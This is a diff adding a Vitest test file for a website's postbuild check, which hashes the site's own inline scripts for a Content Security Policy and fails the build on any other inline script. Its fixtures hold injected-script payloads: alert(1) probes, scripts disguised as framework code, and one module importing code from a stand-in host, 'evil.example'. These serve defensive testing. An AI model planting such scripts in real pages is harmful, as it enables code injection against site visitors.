@@ -1,0 +1,99 @@
+/**
+ * Only the site's own inline scripts get a CSP hash; any other inline script fails the build
+ * (issue 26.1). Pages built like the real ones: the shell's <head> scripts, React Router's context,
+ * the deferred loader, the data feeder, the typewriter, and data blocks that are not scripts.
+ */
+import { describe, expect, it } from 'vitest'
+import { THEME_INIT_SCRIPT } from '#app/components/theme/theme.ts'
+import { DEFERRED_LOADER } from '#scripts/postbuild/defer-hydration.ts'
+import {
+  InlineScriptError,
+  SHELL_HEAD_SCRIPTS,
+  siteInlineScriptHashes,
+} from '#scripts/postbuild/inline-scripts.ts'
+import { STREAM_FEEDER } from '#scripts/postbuild/stream-data.ts'
+import { sha256Source } from '#server/security-headers.ts'
+
+const FONTS = '(function(){try{if(!window.FontFace)return;}catch(e){}})()'
+const AFTER_PAINT = '(function(){var s=0;})()'
+const CONTEXT =
+  'window.__reactRouterContext = {"basename":"/","ssr":false,"isSpaMode":false};window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());'
+const TYPEWRITER =
+  '(function runTypewriter(el){el.dataset.t=1})(document.currentScript.previousElementSibling,1,50)'
+
+const script = (body: string, attributes = '') => `<script${attributes}>${body}</script>`
+function page({ head = [THEME_INIT_SCRIPT, FONTS, AFTER_PAINT], main = '', typewriter = false } = {}) {
+  return (
+    `<!DOCTYPE html><html><head><meta charset="utf-8">${head.map((b) => script(b)).join('')}` +
+    `${script('{"@type":"Person","name":"</scr"}', ' type="application/ld+json"')}</head>` +
+    `<body><main>${typewriter ? `<span>hi</span>${script(TYPEWRITER)}` : ''}${main}</main>` +
+    `${script(CONTEXT)}${script('{"preloads":[]}', ' type="application/json" id="hydration-modules"')}` +
+    `${script(DEFERRED_LOADER, ' type="module" async=""')}` +
+    `${script('"[1]"', ' type="application/json" data-router-stream')}${script(STREAM_FEEDER)}</body></html>`
+  )
+}
+const PAGES = new Set(['index.html', 'blog/1/index.html', '404.html'])
+const site = (overrides: Record<string, string> = {}) => ({
+  'index.html': page({ typewriter: true }),
+  'blog/1/index.html': page(),
+  '404.html': page(),
+  'admin/index.html': '<html><head><script src="/admin/sveltia-cms.js"></script></head><body></body></html>',
+  ...overrides,
+})
+const problems = (files: Record<string, string>) => {
+  try {
+    siteInlineScriptHashes(files, PAGES)
+    return []
+  } catch (error) {
+    expect(error).toBeInstanceOf(InlineScriptError)
+    return (error as Error).message.split('\n- ').slice(1)
+  }
+}
+
+describe('siteInlineScriptHashes', () => {
+  it("hashes each page's own scripts and nothing else (data blocks need no hash)", () => {
+    const hashes = siteInlineScriptHashes(site(), PAGES)
+    const shell = [THEME_INIT_SCRIPT, FONTS, AFTER_PAINT].map(sha256Source)
+    const tail = [CONTEXT, DEFERRED_LOADER, STREAM_FEEDER].map(sha256Source)
+    expect(hashes['blog/1/index.html']).toEqual([...shell, ...tail])
+    expect(hashes['index.html']).toEqual([...shell, sha256Source(TYPEWRITER), ...tail])
+    expect(hashes['admin/index.html']).toEqual([])
+    expect(SHELL_HEAD_SCRIPTS).toHaveLength(3)
+  })
+
+  it.each([
+    ['a script element from content', '<p>hi</p><script>alert(1)</script>'],
+    ['an upper-case one with attributes', '<SCRIPT type="text/javascript" defer>alert(1)</SCRIPT >'],
+    ['a module', '<script type="module">import("https://evil.example/x.js")</script>'],
+    ['one posing as React Router context', `<script>${CONTEXT}alert(1)</script>`],
+    [
+      'one posing as the context with code in its value',
+      '<script>window.__reactRouterContext = alert(1);</script>',
+    ],
+    ['one posing as the typewriter elsewhere', `<script>(function runTypewriter(){alert(1)})(1)</script>`],
+  ])('fails the build on %s', (_what, injected) => {
+    const found = problems(site({ 'blog/1/index.html': page({ main: injected }) }))
+    expect(found.length).toBeGreaterThan(0)
+    expect(found.join('\n')).toMatch(/^blog\/1\/index\.html: /)
+  })
+
+  it('fails on a <head> script that is not the shell', () => {
+    expect(problems(site({ '404.html': page({ head: [THEME_INIT_SCRIPT, FONTS, 'alert(1)'] }) }))).toEqual([
+      `404.html: <head> script 3 (${SHELL_HEAD_SCRIPTS[2]}) differs from index.html's: "alert(1)"`,
+    ])
+    expect(
+      problems(site({ '404.html': page({ head: [THEME_INIT_SCRIPT, FONTS, AFTER_PAINT, 'x()'] }) }))[0],
+    ).toMatch(/^404\.html: 4 inline scripts in <head>, the page shell declares 3/)
+    expect(problems(site({ '404.html': page({ head: ['x()', FONTS, AFTER_PAINT] }) }))[0]).toMatch(
+      /^404\.html: the first <head> script is not the theme script/,
+    )
+  })
+
+  it('fails on any inline script in a page without the shell (the CMS)', () => {
+    expect(
+      problems(
+        site({ 'admin/index.html': '<html><head></head><body><script>alert(1)</script></body></html>' }),
+      ),
+    ).toEqual(['admin/index.html: an inline script that is not the site\'s own: "alert(1)"'])
+  })
+})
